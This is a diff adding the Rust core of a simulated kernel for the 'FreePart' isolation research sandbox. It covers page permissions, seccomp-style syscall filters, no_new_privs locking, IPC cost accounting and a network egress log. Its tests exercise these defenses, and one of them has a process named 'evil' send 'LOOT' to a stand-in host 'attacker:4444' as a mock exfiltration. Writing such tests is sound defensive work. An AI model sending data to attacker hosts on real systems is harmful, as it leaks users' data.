@@ -1,0 +1,889 @@
+//! The simulated kernel: the single authority every process goes through.
+//!
+//! [`Kernel`] owns all processes, the file system, devices, IPC channels,
+//! the virtual clock, and the metrics counters. Its API is deliberately
+//! shaped like the attack surface FreePart cares about:
+//!
+//! * [`Kernel::mem_read`] / [`Kernel::mem_write`] — all data access,
+//!   checked against per-page permissions; violations crash the caller.
+//! * [`Kernel::syscall`] — all kernel services, checked against the
+//!   caller's seccomp-style filter; violations kill the caller.
+//! * [`Kernel::install_filter`] — refused once `PR_SET_NO_NEW_PRIVS` is
+//!   set, so a compromised agent cannot relax its own sandbox.
+//! * [`Kernel::ipc_send`] / [`Kernel::ipc_recv`] — ring-buffer messaging
+//!   with per-byte cost accounting.
+//!
+//! Everything advances one [`VirtualClock`], making run times
+//! deterministic and comparable across isolation schemes.
+
+use crate::cost::{CostModel, VirtualClock};
+use crate::device::{Camera, DeviceKind, Display, NetworkLog};
+use crate::error::{Errno, Fault, FaultKind, SimError, SimResult};
+use crate::filter::{FilterDecision, SyscallFilter};
+use crate::fs::SimFs;
+use crate::ipc::{ChannelId, RingChannel, RingError};
+use crate::mem::{Addr, Perms, PAGE_SIZE};
+use crate::process::{FdTarget, Pid, ProcessState, SimProcess};
+use crate::syscall::{Syscall, SyscallRet};
+use crate::Metrics;
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use std::collections::BTreeMap;
+
+/// The simulated operating system kernel.
+///
+/// See the [module docs](self) for the design; see the crate docs for a
+/// usage example.
+pub struct Kernel {
+    procs: BTreeMap<Pid, SimProcess>,
+    next_pid: u32,
+    channels: BTreeMap<ChannelId, RingChannel>,
+    next_channel: u32,
+    /// The in-memory file system (public for harness seeding/inspection).
+    pub fs: SimFs,
+    /// Attached camera, if the workload uses one.
+    pub camera: Option<Camera>,
+    /// The GUI display subsystem.
+    pub display: Display,
+    /// Network egress log (exfiltration oracle).
+    pub network: NetworkLog,
+    clock: VirtualClock,
+    cost: CostModel,
+    metrics: Metrics,
+    rng: StdRng,
+}
+
+impl Default for Kernel {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Kernel {
+    /// A fresh kernel with the default cost model and seed.
+    pub fn new() -> Kernel {
+        Kernel::with_cost_model(CostModel::default())
+    }
+
+    /// A fresh kernel with a custom cost model.
+    pub fn with_cost_model(cost: CostModel) -> Kernel {
+        Kernel {
+            procs: BTreeMap::new(),
+            next_pid: 1,
+            channels: BTreeMap::new(),
+            next_channel: 0,
+            fs: SimFs::new(),
+            camera: None,
+            display: Display::new(),
+            network: NetworkLog::new(),
+            clock: VirtualClock::new(),
+            cost,
+            metrics: Metrics::new(),
+            rng: StdRng::seed_from_u64(0x5eed),
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Process lifecycle
+    // ------------------------------------------------------------------
+
+    /// Spawns a new process, charging the spawn cost.
+    pub fn spawn(&mut self, name: &str) -> Pid {
+        let pid = Pid(self.next_pid);
+        self.next_pid += 1;
+        self.procs.insert(pid, SimProcess::new(pid, name));
+        self.clock.charge(self.cost.spawn_ns);
+        self.metrics.spawns += 1;
+        pid
+    }
+
+    /// Immutable access to a process.
+    pub fn process(&self, pid: Pid) -> SimResult<&SimProcess> {
+        self.procs.get(&pid).ok_or(SimError::NoSuchProcess(pid))
+    }
+
+    /// Mutable access to a process (harness-level, not attacker-level).
+    pub fn process_mut(&mut self, pid: Pid) -> SimResult<&mut SimProcess> {
+        self.procs
+            .get_mut(&pid)
+            .ok_or(SimError::NoSuchProcess(pid))
+    }
+
+    /// All pids, in spawn order.
+    pub fn pids(&self) -> Vec<Pid> {
+        self.procs.keys().copied().collect()
+    }
+
+    /// Number of processes ever spawned and still tracked.
+    pub fn process_count(&self) -> usize {
+        self.procs.len()
+    }
+
+    /// True when the process exists and is running.
+    pub fn is_running(&self, pid: Pid) -> bool {
+        self.procs.get(&pid).is_some_and(|p| p.is_running())
+    }
+
+    /// Delivers a fatal fault to `pid`, marking it crashed.
+    pub fn deliver_fault(&mut self, pid: Pid, kind: FaultKind, addr: Option<Addr>) -> Fault {
+        let fault = Fault { pid, kind, addr };
+        if let Some(p) = self.procs.get_mut(&pid) {
+            if p.is_running() {
+                p.state = ProcessState::Crashed(fault.clone());
+                self.metrics.faults += 1;
+            }
+        }
+        fault
+    }
+
+    fn require_running(&self, pid: Pid) -> SimResult<()> {
+        let p = self.process(pid)?;
+        if p.is_running() {
+            Ok(())
+        } else {
+            Err(SimError::ProcessDead(pid))
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Memory
+    // ------------------------------------------------------------------
+
+    /// Allocates fresh memory in `pid`'s address space (harness-level
+    /// `mmap`; no syscall charge — agents' own allocations go through
+    /// [`Syscall::Mmap`]).
+    pub fn alloc(&mut self, pid: Pid, len: u64, perms: Perms) -> SimResult<Addr> {
+        self.require_running(pid)?;
+        Ok(self.process_mut(pid)?.aspace.alloc(len, perms))
+    }
+
+    /// Reads `len` bytes at `addr` in `pid`'s address space.
+    ///
+    /// # Errors
+    ///
+    /// On a permission or mapping violation the process is crashed and
+    /// [`SimError::Fault`] is returned — the simulated `SIGSEGV`.
+    pub fn mem_read(&mut self, pid: Pid, addr: Addr, len: u64) -> SimResult<Vec<u8>> {
+        self.require_running(pid)?;
+        let p = self.procs.get_mut(&pid).expect("checked");
+        match p.aspace.read(addr, len) {
+            Ok(bytes) => Ok(bytes),
+            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
+        }
+    }
+
+    /// Writes `bytes` at `addr` in `pid`'s address space.
+    ///
+    /// # Errors
+    ///
+    /// Same crash semantics as [`Kernel::mem_read`]. A write to a page
+    /// FreePart made read-only is exactly this fault.
+    pub fn mem_write(&mut self, pid: Pid, addr: Addr, bytes: &[u8]) -> SimResult<()> {
+        self.require_running(pid)?;
+        let p = self.procs.get_mut(&pid).expect("checked");
+        match p.aspace.write(addr, bytes) {
+            Ok(()) => Ok(()),
+            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
+        }
+    }
+
+    /// Simulates executing code at `addr` (X permission check).
+    pub fn mem_fetch(&mut self, pid: Pid, addr: Addr) -> SimResult<()> {
+        self.require_running(pid)?;
+        let p = self.procs.get_mut(&pid).expect("checked");
+        match p.aspace.fetch(addr) {
+            Ok(()) => Ok(()),
+            Err(kind) => Err(self.deliver_fault(pid, kind, Some(addr)).into()),
+        }
+    }
+
+    /// Harness-level protection change *with* cost/metric accounting but
+    /// without a syscall (used by the FreePart runtime, which is trusted
+    /// and runs outside the filtered processes, per the threat model).
+    pub fn protect(&mut self, pid: Pid, addr: Addr, len: u64, perms: Perms) -> SimResult<u64> {
+        self.require_running(pid)?;
+        let p = self.procs.get_mut(&pid).expect("checked");
+        match p.aspace.protect(addr, len, perms) {
+            Ok(pages) => {
+                self.clock.charge(self.cost.mprotect_cost(pages));
+                self.metrics.protected_pages += pages;
+                Ok(pages)
+            }
+            Err(_) => Err(SimError::Errno(Errno::Einval)),
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Filters
+    // ------------------------------------------------------------------
+
+    /// Installs (or replaces) the seccomp-style filter on `pid`.
+    ///
+    /// # Errors
+    ///
+    /// `EPERM` once the process has set `PR_SET_NO_NEW_PRIVS` — the lock
+    /// that stops a compromised agent from relaxing its own sandbox.
+    pub fn install_filter(&mut self, pid: Pid, filter: SyscallFilter) -> SimResult<()> {
+        self.require_running(pid)?;
+        let p = self.procs.get_mut(&pid).expect("checked");
+        if p.no_new_privs {
+            return Err(SimError::Errno(Errno::Eperm));
+        }
+        p.filter = Some(filter);
+        Ok(())
+    }
+
+    /// The filter currently installed on `pid`, if any.
+    pub fn filter_of(&self, pid: Pid) -> SimResult<Option<&SyscallFilter>> {
+        Ok(self.process(pid)?.filter.as_ref())
+    }
+
+    // ------------------------------------------------------------------
+    // Syscalls
+    // ------------------------------------------------------------------
+
+    /// Executes one syscall on behalf of `pid`.
+    ///
+    /// The caller's filter is consulted first; a denied call kills the
+    /// process (`SIGSYS`) and returns the fault. Allowed calls charge
+    /// [`CostModel::syscall_ns`] plus operation-specific costs and then
+    /// dispatch to the file system / devices / memory manager.
+    ///
+    /// # Errors
+    ///
+    /// [`SimError::Errno`] for ordinary failures; [`SimError::Fault`]
+    /// when the filter killed the process.
+    pub fn syscall(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
+        self.require_running(pid)?;
+        // Filter check (seccomp runs before the syscall body).
+        let decision = self
+            .procs
+            .get(&pid)
+            .expect("checked")
+            .filter
+            .as_ref()
+            .map_or(FilterDecision::Allow, |f| f.evaluate(&call));
+        if decision == FilterDecision::Kill {
+            self.metrics.filter_kills += 1;
+            let fault = self.deliver_fault(pid, FaultKind::SyscallDenied(call.number()), None);
+            return Err(fault.into());
+        }
+        self.clock.charge(self.cost.syscall_ns);
+        self.metrics.syscalls += 1;
+        self.dispatch(pid, call)
+    }
+
+    fn dispatch(&mut self, pid: Pid, call: Syscall) -> SimResult<SyscallRet> {
+        use Syscall as S;
+        match call {
+            // ---------------- file I/O ----------------
+            S::Openat { path, create } => {
+                if path.starts_with("/dev/video") {
+                    let fd = self
+                        .process_mut(pid)?
+                        .install_fd(FdTarget::Device(DeviceKind::Camera));
+                    return Ok(SyscallRet::NewFd(fd));
+                }
+                self.fs.open(&path, create)?;
+                let fd = self
+                    .process_mut(pid)?
+                    .install_fd(FdTarget::File { path, offset: 0 });
+                Ok(SyscallRet::NewFd(fd))
+            }
+            S::Close { fd } => {
+                self.process_mut(pid)?.fd_table.remove(&fd);
+                Ok(SyscallRet::Ok)
+            }
+            S::Read { fd, len } => {
+                let target = self
+                    .process(pid)?
+                    .fd_target(fd)
+                    .cloned()
+                    .ok_or(Errno::Ebadf)?;
+                match target {
+                    FdTarget::File { path, offset } => {
+                        let bytes = self.fs.read_at(&path, offset, len)?;
+                        self.clock.charge(self.cost.file_cost(bytes.len() as u64));
+                        if let Some(FdTarget::File { offset, .. }) =
+                            self.process_mut(pid)?.fd_table.get_mut(&fd)
+                        {
+                            *offset += bytes.len() as u64;
+                        }
+                        Ok(SyscallRet::Bytes(bytes))
+                    }
+                    FdTarget::Device(DeviceKind::Camera) => {
+                        let frame = self
+                            .camera
+                            .as_mut()
+                            .map(|c| c.capture())
+                            .ok_or(Errno::Enosys)?;
+                        self.clock.charge(self.cost.file_cost(frame.len() as u64));
+                        Ok(SyscallRet::Bytes(frame))
+                    }
+                    _ => Err(Errno::Enosys.into()),
+                }
+            }
+            S::Write { fd, bytes } => {
+                let target = self
+                    .process(pid)?
+                    .fd_target(fd)
+                    .cloned()
+                    .ok_or(Errno::Ebadf)?;
+                match target {
+                    FdTarget::File { path, offset } => {
+                        let n = self.fs.write_at(&path, offset, &bytes)?;
+                        self.clock.charge(self.cost.file_cost(n));
+                        if let Some(FdTarget::File { offset, .. }) =
+                            self.process_mut(pid)?.fd_table.get_mut(&fd)
+                        {
+                            *offset += n;
+                        }
+                        Ok(SyscallRet::Num(n))
+                    }
+                    FdTarget::Socket { dest } => {
+                        self.net_send(pid, &dest, &bytes);
+                        Ok(SyscallRet::Num(bytes.len() as u64))
+                    }
+                    FdTarget::Device(DeviceKind::GuiSocket) => {
+                        self.display.blitted_bytes += bytes.len() as u64;
+                        Ok(SyscallRet::Num(bytes.len() as u64))
+                    }
+                    _ => Err(Errno::Enosys.into()),
+                }
+            }
+            S::Lseek { fd, pos } => {
+                match self.process_mut(pid)?.fd_table.get_mut(&fd) {
+                    Some(FdTarget::File { offset, .. }) => {
+                        *offset = pos;
+                        Ok(SyscallRet::Num(pos))
+                    }
+                    Some(_) => Err(Errno::Enosys.into()),
+                    None => Err(Errno::Ebadf.into()),
+                }
+            }
+            S::Fstat { fd } => {
+                let target = self
+                    .process(pid)?
+                    .fd_target(fd)
+                    .cloned()
+                    .ok_or(Errno::Ebadf)?;
+                match target {
+                    FdTarget::File { path, .. } => Ok(SyscallRet::Num(self.fs.size(&path)?)),
+                    _ => Ok(SyscallRet::Num(0)),
+                }
+            }
+            S::Lstat { path } | S::Stat { path } | S::Access { path } => {
+                if self.fs.exists(&path) {
+                    Ok(SyscallRet::Num(self.fs.size(&path)?))
+                } else {
+                    Err(Errno::Enoent.into())
+                }
+            }
+            S::Getdents { path } => {
+                let listing = self.fs.list(&path).join("\n");
+                Ok(SyscallRet::Bytes(listing.into_bytes()))
+            }
+            S::Mkdir { path } => {
+                self.fs.mkdir(&path);
+                Ok(SyscallRet::Ok)
+            }
+            S::Unlink { path } => {
+                self.fs.unlink(&path)?;
+                Ok(SyscallRet::Ok)
+            }
+            S::Rename { from, to } => {
+                self.fs.rename(&from, &to)?;
+                Ok(SyscallRet::Ok)
+            }
+            S::Umask { mask } => Ok(SyscallRet::Num(mask as u64)),
+            S::Dup { fd } => {
+                let target = self
+                    .process(pid)?
+                    .fd_target(fd)
+                    .cloned()
+                    .ok_or(Errno::Ebadf)?;
+                let new = self.process_mut(pid)?.install_fd(target);
+                Ok(SyscallRet::NewFd(new))
+            }
+            S::Fcntl { fd } => {
+                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
+                Ok(SyscallRet::Ok)
+            }
+
+            // ---------------- memory ----------------
+            S::Brk { grow } => {
+                let addr = self.process_mut(pid)?.aspace.alloc(grow.max(1), Perms::RW);
+                Ok(SyscallRet::Mapped(addr))
+            }
+            S::Mmap { len, perms } => {
+                let addr = self.process_mut(pid)?.aspace.alloc(len.max(1), perms);
+                Ok(SyscallRet::Mapped(addr))
+            }
+            S::Munmap { addr, len } => {
+                self.process_mut(pid)?.aspace.unmap(addr, len);
+                Ok(SyscallRet::Ok)
+            }
+            S::Mprotect { addr, len, perms } => {
+                let p = self.procs.get_mut(&pid).expect("checked");
+                match p.aspace.protect(addr, len, perms) {
+                    Ok(pages) => {
+                        self.clock.charge(self.cost.mprotect_cost(pages));
+                        self.metrics.protected_pages += pages;
+                        Ok(SyscallRet::Num(pages))
+                    }
+                    Err(_) => Err(Errno::Einval.into()),
+                }
+            }
+
+            // ---------------- process ----------------
+            S::Fork => {
+                // Semantically a no-op in the cooperative simulation; the
+                // call exists so fork-bomb payloads hit the filter.
+                self.clock.charge(self.cost.spawn_ns);
+                Ok(SyscallRet::Num(0))
+            }
+            S::Execve { .. } => Ok(SyscallRet::Ok),
+            S::Exit { code } => {
+                self.process_mut(pid)?.state = ProcessState::Exited(code);
+                Ok(SyscallRet::Ok)
+            }
+            S::Kill { target_pid } => {
+                self.deliver_fault(Pid(target_pid), FaultKind::Abort, None);
+                Ok(SyscallRet::Ok)
+            }
+            S::Getpid => Ok(SyscallRet::Num(pid.0 as u64)),
+            S::Getuid => Ok(SyscallRet::Num(1000)),
+            S::Getcwd => Ok(SyscallRet::Bytes(b"/".to_vec())),
+            S::Uname => Ok(SyscallRet::Bytes(b"simos 1.0".to_vec())),
+            S::SchedYield => Ok(SyscallRet::Ok),
+            S::Nanosleep { ns } => {
+                self.clock.charge(ns);
+                Ok(SyscallRet::Ok)
+            }
+            S::PrctlNoNewPrivs => {
+                let p = self.process_mut(pid)?;
+                p.no_new_privs = true;
+                if let Some(f) = &mut p.filter {
+                    f.lock();
+                }
+                Ok(SyscallRet::Ok)
+            }
+            S::Seccomp => Ok(SyscallRet::Ok),
+
+            // ---------------- devices ----------------
+            S::Ioctl { fd, .. } => {
+                match self.process(pid)?.fd_target(fd) {
+                    Some(FdTarget::Device(_)) => Ok(SyscallRet::Ok),
+                    Some(_) => Ok(SyscallRet::Ok),
+                    None => Err(Errno::Ebadf.into()),
+                }
+            }
+            S::Select { .. } | S::Poll { .. } => Ok(SyscallRet::Ok),
+            S::Eventfd2 => {
+                let fd = self
+                    .process_mut(pid)?
+                    .install_fd(FdTarget::Device(DeviceKind::Event));
+                Ok(SyscallRet::NewFd(fd))
+            }
+
+            // ---------------- sockets ----------------
+            S::Socket => {
+                let fd = self
+                    .process_mut(pid)?
+                    .install_fd(FdTarget::Socket { dest: String::new() });
+                Ok(SyscallRet::NewFd(fd))
+            }
+            S::Connect { fd, dest } => {
+                let is_gui = dest.starts_with("gui");
+                match self.process_mut(pid)?.fd_table.get_mut(&fd) {
+                    Some(FdTarget::Socket { dest: d }) => {
+                        *d = dest;
+                        if is_gui {
+                            self.display.connect();
+                        }
+                        Ok(SyscallRet::Ok)
+                    }
+                    Some(_) => Err(Errno::Enosys.into()),
+                    None => Err(Errno::Ebadf.into()),
+                }
+            }
+            S::Bind { .. } | S::Listen { .. } => Ok(SyscallRet::Ok),
+            S::Accept { fd: _ } => {
+                let fd = self
+                    .process_mut(pid)?
+                    .install_fd(FdTarget::Socket { dest: String::new() });
+                Ok(SyscallRet::NewFd(fd))
+            }
+            S::Send { fd, bytes } => {
+                let dest = match self.process(pid)?.fd_target(fd) {
+                    Some(FdTarget::Socket { dest }) => dest.clone(),
+                    Some(_) => return Err(Errno::Enosys.into()),
+                    None => return Err(Errno::Ebadf.into()),
+                };
+                self.net_send(pid, &dest, &bytes);
+                Ok(SyscallRet::Num(bytes.len() as u64))
+            }
+            S::Sendto { fd, dest, bytes } => {
+                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
+                self.net_send(pid, &dest, &bytes);
+                Ok(SyscallRet::Num(bytes.len() as u64))
+            }
+            S::Recvfrom { fd, len } => {
+                self.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
+                Ok(SyscallRet::Bytes(vec![0; len as usize]))
+            }
+
+            // ---------------- sync / shm ----------------
+            S::Futex { .. } => Ok(SyscallRet::Ok),
+            S::ShmOpen { .. } => {
+                let fd = self
+                    .process_mut(pid)?
+                    .install_fd(FdTarget::Device(DeviceKind::Event));
+                Ok(SyscallRet::NewFd(fd))
+            }
+            S::ShmUnlink { .. } => Ok(SyscallRet::Ok),
+
+            // ---------------- misc ----------------
+            S::Getrandom { len } => {
+                let bytes: Vec<u8> = (0..len).map(|_| self.rng.gen()).collect();
+                Ok(SyscallRet::Bytes(bytes))
+            }
+            S::Gettimeofday | S::ClockGettime => Ok(SyscallRet::Num(self.clock.now_ns())),
+        }
+    }
+
+    fn net_send(&mut self, pid: Pid, dest: &str, bytes: &[u8]) {
+        self.clock.charge(self.cost.copy_cost(bytes.len() as u64));
+        if dest.starts_with("gui") {
+            self.display.blitted_bytes += bytes.len() as u64;
+        }
+        self.network.record(pid.0, dest, bytes);
+    }
+
+    // ------------------------------------------------------------------
+    // IPC
+    // ------------------------------------------------------------------
+
+    /// Creates a shared-memory ring channel between two processes.
+    pub fn create_channel(&mut self, a: Pid, b: Pid, capacity_bytes: usize) -> SimResult<ChannelId> {
+        self.require_running(a)?;
+        self.require_running(b)?;
+        let id = ChannelId(self.next_channel);
+        self.next_channel += 1;
+        self.channels.insert(id, RingChannel::new(a, b, capacity_bytes));
+        Ok(id)
+    }
+
+    /// Sends `payload` from `pid` over `chan`, charging the IPC round
+    /// trip setup plus per-byte copy cost.
+    pub fn ipc_send(&mut self, pid: Pid, chan: ChannelId, payload: &[u8]) -> SimResult<()> {
+        self.require_running(pid)?;
+        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
+        channel
+            .send(pid, bytes::Bytes::copy_from_slice(payload))
+            .map_err(|e| match e {
+                RingError::Full => SimError::Errno(Errno::Enospc),
+                RingError::NotEndpoint => SimError::BadChannel,
+            })?;
+        self.clock.charge(self.cost.ipc_round_trip_ns / 2);
+        self.clock.charge(self.cost.copy_cost(payload.len() as u64));
+        self.metrics.ipc_messages += 1;
+        self.metrics.ipc_bytes += payload.len() as u64;
+        Ok(())
+    }
+
+    /// Receives the next message for `pid` on `chan`, if any.
+    pub fn ipc_recv(&mut self, pid: Pid, chan: ChannelId) -> SimResult<Option<Vec<u8>>> {
+        self.require_running(pid)?;
+        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
+        match channel.try_recv(pid) {
+            Ok(Some(frame)) => {
+                self.clock.charge(self.cost.ipc_round_trip_ns / 2);
+                Ok(Some(frame.payload.to_vec()))
+            }
+            Ok(None) => Ok(None),
+            Err(_) => Err(SimError::BadChannel),
+        }
+    }
+
+    /// Re-binds a channel's B endpoint after an agent restart.
+    pub fn rebind_channel(&mut self, chan: ChannelId, new_b: Pid) -> SimResult<()> {
+        let channel = self.channels.get_mut(&chan).ok_or(SimError::BadChannel)?;
+        channel.rebind_b(new_b);
+        Ok(())
+    }
+
+    /// Charges raw virtual time (transport penalties, modeled stalls).
+    pub fn charge_time(&mut self, ns: u64) {
+        self.clock.charge(ns);
+    }
+
+    /// Records a direct cross-address-space deep copy of `bytes` bytes
+    /// (object marshalling / lazy-data-copy transfers).
+    pub fn charge_copy(&mut self, bytes: u64) {
+        self.clock.charge(self.cost.copy_cost(bytes));
+        self.metrics.copied_bytes += bytes;
+        self.metrics.copy_ops += 1;
+    }
+
+    /// Charges `units` of framework compute to `pid`.
+    pub fn charge_compute(&mut self, pid: Pid, units: u64) {
+        let ns = self.cost.compute_cost(units);
+        self.clock.charge(ns);
+        if let Some(p) = self.procs.get_mut(&pid) {
+            p.cpu_ns += ns;
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Introspection
+    // ------------------------------------------------------------------
+
+    /// The virtual clock.
+    pub fn clock(&self) -> VirtualClock {
+        self.clock
+    }
+
+    /// The cost model in force.
+    pub fn cost_model(&self) -> &CostModel {
+        &self.cost
+    }
+
+    /// Counter snapshot.
+    pub fn metrics(&self) -> Metrics {
+        self.metrics
+    }
+
+    /// Resets clock and counters (not processes) between measurements.
+    pub fn reset_accounting(&mut self) {
+        self.clock.reset();
+        self.metrics = Metrics::new();
+    }
+
+    /// Number of pages currently mapped across all processes.
+    pub fn total_pages(&self) -> u64 {
+        self.procs
+            .values()
+            .map(|p| p.aspace.mapped_bytes() / PAGE_SIZE)
+            .sum()
+    }
+}
+
+impl std::fmt::Debug for Kernel {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Kernel")
+            .field("procs", &self.procs.len())
+            .field("channels", &self.channels.len())
+            .field("clock_ns", &self.clock.now_ns())
+            .finish()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::syscall::SyscallNo;
+
+    #[test]
+    fn spawn_and_alloc_isolated_address_spaces() {
+        let mut k = Kernel::new();
+        let a = k.spawn("a");
+        let b = k.spawn("b");
+        let addr = k.alloc(a, 16, Perms::RW).unwrap();
+        k.mem_write(a, addr, b"private").unwrap();
+        // Same numeric address in b is unmapped — isolation.
+        let err = k.mem_read(b, addr, 7).unwrap_err();
+        assert!(err.is_fault());
+        assert!(!k.is_running(b), "wild read crashed b");
+        assert!(k.is_running(a));
+    }
+
+    #[test]
+    fn readonly_page_write_crashes_writer() {
+        let mut k = Kernel::new();
+        let p = k.spawn("p");
+        let addr = k.alloc(p, 8, Perms::RW).unwrap();
+        k.protect(p, addr, 8, Perms::R).unwrap();
+        let err = k.mem_write(p, addr, b"x").unwrap_err();
+        assert_eq!(err.as_fault().unwrap().kind, FaultKind::Protection);
+        assert!(!k.is_running(p));
+        assert_eq!(k.metrics().faults, 1);
+    }
+
+    #[test]
+    fn filter_denial_kills_process() {
+        let mut k = Kernel::new();
+        let p = k.spawn("agent");
+        k.install_filter(p, SyscallFilter::allowing([SyscallNo::Getpid]))
+            .unwrap();
+        assert!(k.syscall(p, Syscall::Getpid).is_ok());
+        let err = k.syscall(p, Syscall::Fork).unwrap_err();
+        assert!(matches!(
+            err.as_fault().unwrap().kind,
+            FaultKind::SyscallDenied(SyscallNo::Fork)
+        ));
+        assert!(!k.is_running(p));
+        assert_eq!(k.metrics().filter_kills, 1);
+    }
+
+    #[test]
+    fn no_new_privs_locks_filter_reconfiguration() {
+        let mut k = Kernel::new();
+        let p = k.spawn("agent");
+        k.install_filter(
+            p,
+            SyscallFilter::allowing([SyscallNo::Prctl, SyscallNo::Getpid]),
+        )
+        .unwrap();
+        k.syscall(p, Syscall::PrctlNoNewPrivs).unwrap();
+        // An attacker inside the process cannot swap the filter.
+        let err = k
+            .install_filter(p, SyscallFilter::allowing(SyscallNo::ALL.iter().copied()))
+            .unwrap_err();
+        assert_eq!(err, SimError::Errno(Errno::Eperm));
+    }
+
+    #[test]
+    fn file_syscall_roundtrip() {
+        let mut k = Kernel::new();
+        let p = k.spawn("loader");
+        k.fs.put("/in.png", vec![9, 8, 7]);
+        let fd = k
+            .syscall(
+                p,
+                Syscall::Openat {
+                    path: "/in.png".into(),
+                    create: false,
+                },
+            )
+            .unwrap()
+            .fd();
+        let bytes = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
+        assert_eq!(bytes, vec![9, 8, 7]);
+        // Cursor advanced; next read is empty.
+        let rest = k.syscall(p, Syscall::Read { fd, len: 10 }).unwrap().bytes();
+        assert!(rest.is_empty());
+    }
+
+    #[test]
+    fn socket_send_reaches_network_log() {
+        let mut k = Kernel::new();
+        let p = k.spawn("evil");
+        let fd = k.syscall(p, Syscall::Socket).unwrap().fd();
+        k.syscall(
+            p,
+            Syscall::Connect {
+                fd,
+                dest: "attacker:4444".into(),
+            },
+        )
+        .unwrap();
+        k.syscall(
+            p,
+            Syscall::Send {
+                fd,
+                bytes: b"LOOT".to_vec(),
+            },
+        )
+        .unwrap();
+        assert!(k.network.leaked(b"LOOT"));
+    }
+
+    #[test]
+    fn camera_read_serves_frames() {
+        let mut k = Kernel::new();
+        k.camera = Some(Camera::new(1, 32));
+        let p = k.spawn("cap");
+        let fd = k
+            .syscall(
+                p,
+                Syscall::Openat {
+                    path: "/dev/video0".into(),
+                    create: false,
+                },
+            )
+            .unwrap()
+            .fd();
+        let frame = k.syscall(p, Syscall::Read { fd, len: 0 }).unwrap().bytes();
+        assert_eq!(frame.len(), 32);
+    }
+
+    #[test]
+    fn ipc_roundtrip_counts_metrics_and_time() {
+        let mut k = Kernel::new();
+        let a = k.spawn("a");
+        let b = k.spawn("b");
+        let ch = k.create_channel(a, b, 1 << 20).unwrap();
+        let t0 = k.clock().now_ns();
+        k.ipc_send(a, ch, b"request").unwrap();
+        let msg = k.ipc_recv(b, ch).unwrap().unwrap();
+        assert_eq!(msg, b"request");
+        assert!(k.clock().now_ns() > t0);
+        assert_eq!(k.metrics().ipc_messages, 1);
+        assert_eq!(k.metrics().ipc_bytes, 7);
+        assert_eq!(k.ipc_recv(b, ch).unwrap(), None);
+    }
+
+    #[test]
+    fn dead_process_cannot_syscall() {
+        let mut k = Kernel::new();
+        let p = k.spawn("p");
+        k.syscall(p, Syscall::Exit { code: 0 }).unwrap();
+        assert!(matches!(
+            k.syscall(p, Syscall::Getpid),
+            Err(SimError::ProcessDead(_))
+        ));
+    }
+
+    #[test]
+    fn mprotect_syscall_counts_pages() {
+        let mut k = Kernel::new();
+        let p = k.spawn("p");
+        let addr = k.alloc(p, 3 * PAGE_SIZE, Perms::RW).unwrap();
+        let pages = k
+            .syscall(
+                p,
+                Syscall::Mprotect {
+                    addr,
+                    len: 3 * PAGE_SIZE,
+                    perms: Perms::R,
+                },
+            )
+            .unwrap()
+            .num();
+        assert_eq!(pages, 3);
+        assert_eq!(k.metrics().protected_pages, 3);
+    }
+
+    #[test]
+    fn kill_syscall_crashes_target() {
+        let mut k = Kernel::new();
+        let a = k.spawn("a");
+        let b = k.spawn("b");
+        k.syscall(a, Syscall::Kill { target_pid: b.0 }).unwrap();
+        assert!(!k.is_running(b));
+    }
+
+    #[test]
+    fn charge_copy_and_compute_advance_clock() {
+        let mut k = Kernel::new();
+        let p = k.spawn("p");
+        let t0 = k.clock().now_ns();
+        k.charge_copy(4096);
+        k.charge_compute(p, 1000);
+        assert!(k.clock().now_ns() > t0);
+        assert_eq!(k.metrics().copied_bytes, 4096);
+        assert_eq!(k.metrics().copy_ops, 1);
+        assert!(k.process(p).unwrap().cpu_ns > 0);
+    }
+
+    #[test]
+    fn reset_accounting_clears_clock_and_metrics() {
+        let mut k = Kernel::new();
+        let p = k.spawn("p");
+        k.charge_compute(p, 10);
+        k.reset_accounting();
+        assert_eq!(k.clock().now_ns(), 0);
+        assert_eq!(k.metrics(), Metrics::new());
+    }
+}
